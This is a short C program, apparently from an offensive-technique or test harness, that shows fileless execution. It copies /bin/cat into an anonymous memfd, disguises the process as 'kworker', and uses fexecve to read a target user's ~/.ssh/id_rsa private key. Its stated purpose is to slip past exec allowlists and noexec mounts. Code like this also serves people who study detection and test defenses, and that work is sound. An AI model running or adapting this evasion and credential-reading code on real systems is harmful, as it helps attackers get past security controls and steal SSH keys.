/* exec-bypass: run a program that exists nowhere on disk.  Copy /bin/cat
 * into an anonymous memfd and fexecve() it on the victim's SSH key: what
 * a loader does to slip past exec allowlists and noexec mounts. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "targets.h"

extern char **environ;

int main(int argc, char **argv)
{
	char key[1200], buf[65536], name[] = "kworker";
	char *args[] = {name, key, NULL};
	int in, mem;
	ssize_t n;

	targets_load(argc, argv);
	snprintf(key, sizeof(key), "%s/.ssh/id_rsa", target("T_HOME"));
	if ((in = open("/bin/cat", O_RDONLY)) < 0 ||
	    (mem = memfd_create("kworker", MFD_CLOEXEC)) < 0) {
		perror("memfd");
		return 1;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(mem, buf, (size_t)n) != n) {
			perror("write");
			return 1;
		}
	close(in);
	fflush(stdout);
	fexecve(mem, args, environ);
	perror("fexecve");
	return 1;
}
